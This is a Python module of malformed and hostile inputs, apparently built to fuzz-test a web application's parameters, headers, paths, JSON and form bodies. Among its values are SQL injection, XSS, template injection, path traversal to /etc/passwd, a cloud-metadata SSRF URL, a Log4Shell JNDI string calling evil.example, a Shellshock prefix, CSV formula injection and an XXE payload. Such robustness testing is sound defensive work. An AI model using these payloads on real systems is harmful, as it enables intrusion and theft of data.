"""Values that no form means: what breaks parsers, numbers, databases, templates and headers elsewhere."""

from __future__ import annotations

from urllib.parse import quote_plus

ODD = (
    *("", " ", "0", "-1", "1e9999", "NaN", "Infinity", "-0", "0x10", "1_000", "9223372036854775807"),
    *("9223372036854775808", "-9223372036854775809", "9" * 400, "0." + "3" * 300, "٣٤٥", "１２", "²", "½"),
    *("\x00", "a\x00b", "\ud800", "a\udfffb", "\ufffe", "\r\nX-Evil: 1", "\n.\n", "\u2028", "\x1b[31m", "\x7f"),
    *("\u202eevil\u202c", "a\u200bb", "\ufeff", "🏙️" * 40, "e\u0301" * 60, "𝔘𝔫𝔦", "ﷺ" * 30, "ß" * 50, "İ"),
    *(
        "' OR '1'='1",
        "'; DROP TABLE person; --",
        '" OR 1=1 --',
        "1) UNION SELECT NULL--",
        "%",
        "_%_",
        "\\",
        "[a-z",
        "*",
    ),
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "${7*7}", "%s%n", "{0.__class__}"),
    *("javascript:alert(1)", "data:text/html,x", "//evil.example", "http://169.254.169.254/", "file:///etc/passwd"),
    *(
        "../../../etc/passwd",
        "..%2f..%2f",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "null",
        "None",
        "true",
        "[]",
        "{}",
        "undefined",
    ),
    *("2027-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2027-03-01T25:61", "23:59:60", "-1-1-1", "1970-01-01"),
    *("en", "ar", "xx", "KEN", "ken", "XXX", "PER", "GNLC-2027-00000", "a" * 300, "a" * 5_000, "ع" * 2_000),
    *(
        "a@b",
        "a@b.example\nBcc: c@d.example",
        '"a b"@c.example',
        "a@[127.0.0.1]",
        "ü@ü.example",
        "a" * 250 + "@b.example",
    ),
)
# What addresses are asked for with.
PARAMETERS = (
    *("q", "status", "sort", "page", "on", "region", "country", "cohort", "juror", "score", "average", "listed"),
    *("state", "query", "search", "role", "show", "words", "name", "place_name", "ask", "format", "language", "next"),
    *("limit", "offset", "order", "year", "call", "step", "section", "call[]", "a.b", "__class__", "csrf_token", ""),
)
HEADERS: dict[str, tuple[str, ...]] = {
    "Accept-Language": (
        "*",
        "ar;q=0.9,en;q=x",
        "zh-" * 300,
        ";;;,,,",
        "en;q=1e999",
        "\xe9\xff",
        "en-" + "x" * 5_000,
        "-",
    ),
    "Range": (
        "bytes=0-0",
        "bytes=5-1",
        "bytes=-99999999999999999999",
        "bytes=a-b",
        "items=0-1",
        "bytes=0-0,1-1," * 200,
    ),
    "If-None-Match": ("*", '"', 'W/"x"', '"' + "a" * 5_000 + '"', ", , ,", "\xff"),
    "If-Modified-Since": ("x", "Thu, 01 Jan 1970 00:00:00 GMT", "Thu, 99 Foo 99999 99:99:99 GMT", "0"),
    "Host": ("evil.example", "localhost:99999", "", "[::1", "localhost..", "a" * 300, "xn--\xff", "localhost:80"),
    "User-Agent": ("", "\xff" * 400, "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "() { :;}; echo"),
    "Cookie": ("gnlc=", "gnlc=\xff\xfe", "gnlc=" + "A" * 4_000, "gnlc=a; gnlc=b", "=;=;=", 'gnlc="\\303\\250"'),
    "Accept": ("application/json", "*/*;q=nan", "a/b" * 500, "text/html;q=-1"),
    "Content-Encoding": ("gzip", "deflate", "br", "x"),
    "X-CSRFToken": ("x", "\xff", "a.b.c"),
    "Referer": ("http://evil.example/", "javascript:x", "\xff"),
    "Origin": ("null", "http://localhost", "\xff"),
    "Sec-Fetch-Site": ("none", "same-origin", "cross-site", "\xff"),
    "X-Forwarded-For": ("127.0.0.1, ::1, x", "\xff"),
    "Authorization": ("Basic x", "Basic //79", "Bearer " + "a" * 3_000, "Digest username="),
    "Content-Length": ("abc", "-1", "99999999999"),
    "Transfer-Encoding": ("chunked",),
}
SEGMENTS = (
    *(
        "%00",
        "%ff%fe",
        "%ed%a0%80",
        "..",
        "%2e%2e",
        "%2f",
        "9" * 40,
        "-1",
        "a" * 400,
        "%0d%0aX:1",
        "%F0%9F%8F%99",
        "%7B%7B7*7%7D%7D",
    ),
    *(
        "'%20OR%201=1",
        "<script>",
        "GNLC-2027-%D9%A3",
        "KEN%20",
        "ken",
        "xx",
        "%E2%80%AE",
        "1e3",
        "0",
        "%25s",
        ";a=b",
        "*",
    ),
)
DEEP = 10_000
JSON = (
    b"[" * DEEP + b"]" * DEEP,
    b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    b'{"csrf_token": NaN, "revision": Infinity}',
    b'{"revision": 1, "revision": 2, "answers": {"a": 1, "a": 2}}',
    b'{"revision": ' + b"9" * 5_000 + b"}",
    b'{"revision": 1e99999, "key": "\\ud800"}',
    *(
        b"",
        b"null",
        b"[]",
        b'"x"',
        b"{",
        b"\xff\xfe",
        b"\xef\xbb\xbf{}",
        b"true",
        b'{"": {}}',
        b'{"key": [[]], "value": {}}',
    ),
)
BROKEN_PARTS = (
    (b"", "multipart/form-data"),
    (b"--x\r\n", "multipart/form-data; boundary=x"),
    (b"--x\r\nContent-Disposition: form-data\r\n\r\na\r\n--x--\r\n", "multipart/form-data; boundary=x"),
    (
        b'--x\r\nContent-Disposition: form-data; name="a\x00"\r\n\r\n\xff\r\n--x--\r\n',
        "multipart/form-data; boundary=x",
    ),
    (
        b'--x\r\nContent-Disposition: form-data; name="a"; filename="../\x00\xff.pdf"\r\n\r\n%PDF',
        "multipart/form-data; boundary=x",
    ),
    (b"--x\r\n" + b"A: b\r\n" * 3_000 + b"\r\n\r\n--x--\r\n", "multipart/form-data; boundary=x"),
    (b"x" * 2_000, "multipart/form-data; boundary=" + "y" * 500),
    (b"a=b", "multipart/form-data; boundary="),
    (b"--x--", 'multipart/form-data; boundary="x'),
    (b"a=b", "application/x-www-form-urlencoded; charset=utf-16"),
    (b"a=b", "application/x-www-form-urlencoded; charset=no-such"),
    (b"%ff=%fe&%&=&&&;=;", "application/x-www-form-urlencoded"),
    (b"&".join(b"a%d=1" % n for n in range(1_500)), "application/x-www-form-urlencoded"),
    (b"csrf_token=x", "text/plain"),
    (b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "application/xml"),
    (b"\x00\x01", "\xff/\xfe"),
)


def encoded(pairs: list[tuple[str, str]]) -> str:
    """Pairs as a query or a form carries them; lone surrogates become the bytes that some clients send."""

    def one(text: str) -> str:
        return quote_plus(text.encode("utf-8", "surrogatepass"))

    return "&".join(f"{one(name)}={one(value)}" for name, value in pairs)
